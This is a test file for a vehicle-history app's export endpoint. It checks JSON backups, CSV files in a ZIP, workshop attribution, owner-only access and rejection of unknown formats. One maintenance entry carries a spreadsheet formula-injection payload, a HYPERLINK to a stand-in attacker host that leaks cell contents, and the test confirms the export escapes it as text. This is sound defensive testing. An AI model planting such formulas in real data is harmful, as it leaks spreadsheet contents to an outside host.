import { odoExportVersion, readImport } from "@odo/domain";
import { strFromU8, unzipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { aCar, build, call, type Session, type TestServer, userOnPlan } from "../helper.js";

/**
 * `GET /vehicles/{id}/export` for API clients: the owner's whole history in Odo's export format,
 * naming the workshop for the work it logged; nobody else gets it.
 */
let server: TestServer;
let owner: Session;
let workshop: Session;
let vehicleId = "";
const later = (hours: number) => new Date(Date.now() + hours * 3_600_000).toISOString();

beforeAll(async () => {
  server = await build();
  owner = await userOnPlan(server, "exportowner");
  workshop = await userOnPlan(server, "tallerexport");
  const shop = await call(server, workshop, "POST", "/api/shops", {
    type: "mechanicalWorkshop",
    name: "Taller Hermanos Díaz",
    contactName: "Pedro Díaz",
    address: "Calle 50, Ciudad de Panamá",
    phone: "+507 6000-0000",
  });
  expect(shop.statusCode).toBe(201);
  vehicleId = (await call(server, owner, "POST", "/api/vehicles", aCar)).json().payload._id;
  await call(server, owner, "POST", `/api/refuels/${vehicleId}`, {
    date: later(1),
    quantity: 40.5,
    amount: 52.3,
    displacement: 10_400,
    gasStation: { name: "", location: "Vía España, local 3" },
  });
  await call(server, owner, "POST", `/api/maintenances/${vehicleId}/general`, {
    date: later(2),
    adjustments: ["changeOil"],
    kms: 10_500,
    amount: 60,
  });
  const qr = (await call(server, owner, "POST", `/api/vehicles/${vehicleId}/shares`, { role: "workshop" })).json()
    .payload.qr as string;
  await call(server, workshop, "POST", "/api/shares/claim", { grant: qr.replace("odo-share:", "") });
  const logged = await call(server, workshop, "POST", `/api/maintenances/${vehicleId}/general`, {
    date: later(3),
    adjustments: ["changeBrake", "changeOther"],
    description: '=HYPERLINK("http://evil.example/?leak="&A1,"Factura")',
    kms: 10_600,
    amount: 180,
  });
  expect(logged.statusCode).toBe(201);
});
afterAll(async () => server.close());

describe("GET /api/vehicles/{id}/export", () => {
  it("gives the owner a JSON backup that names the workshop's work and imports back", async () => {
    const reply = await call(server, owner, "GET", `/api/vehicles/${vehicleId}/export?format=json`);
    expect(reply.statusCode).toBe(200);
    expect(reply.headers["content-type"]).toMatch(/application\/json/);
    expect(reply.headers["content-disposition"]).toMatch(/attachment; filename="odo-backup-\d{4}-\d{2}-\d{2}\.json"/);
    const backup = reply.json();
    expect(backup).toMatchObject({ format: "odo-backup", version: odoExportVersion });
    const [history] = backup.vehicles;
    expect(history.refuels).toHaveLength(1);
    expect(history.maintenances.map((entry: { loggedByShop?: string }) => entry.loggedByShop ?? null)).toEqual([
      null,
      "Taller Hermanos Díaz",
    ]);
    const parsed = readImport([{ name: "backup.json", text: reply.body }], "UTC");
    expect([parsed.refuels.length, parsed.services.length]).toEqual([1, 2]);
  });

  it("gives CSV files in a ZIP, one per record type, with the shop as the author", async () => {
    const reply = await call(server, owner, "GET", `/api/vehicles/${vehicleId}/export?format=csv`);
    expect(reply.statusCode).toBe(200);
    expect(reply.headers["content-type"]).toBe("application/zip");
    const files = unzipSync(new Uint8Array(reply.rawPayload));
    const names = Object.keys(files).map((name) => name.replace(/^odo-export-[\d-]+\//, ""));
    expect(names.sort()).toEqual([
      "attachments.csv",
      "expenses.csv",
      "maintenances.csv",
      "refuels.csv",
      "reminders.csv",
      "tread_readings.csv",
      "tyre_events.csv",
      "tyre_sets.csv",
      "vehicles.csv",
    ]);
    const maintenances = strFromU8(
      files[Object.keys(files).find((name) => name.endsWith("maintenances.csv")) ?? ""] ?? new Uint8Array(),
    );
    expect(maintenances.split("\r\n")[0]).toContain("logged_by");
    expect(maintenances).toContain(',"Owner"\r\n');
    expect(maintenances).toContain(',"Taller Hermanos Díaz"\r\n');
    // What the workshop typed lands in the owner's file as text, never as a formula.
    expect(maintenances).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Factura"")"`);
    expect(maintenances).not.toMatch(/(^|,)"?=/m);
    const refuels = strFromU8(
      files[Object.keys(files).find((name) => name.endsWith("refuels.csv")) ?? ""] ?? new Uint8Array(),
    );
    expect(refuels).toContain('"Vía España, local 3"');
  });

  it("refuses anyone but the owner", async () => {
    const reply = await call(server, workshop, "GET", `/api/vehicles/${vehicleId}/export`);
    expect(reply.statusCode).toBe(403);
  });

  it("refuses a format it does not know with a 400 that says why", async () => {
    const reply = await call(server, owner, "GET", `/api/vehicles/${vehicleId}/export?format=xml`);
    expect(reply.statusCode).toBe(400);
    expect(reply.json().message).toBeTruthy();
  });
});
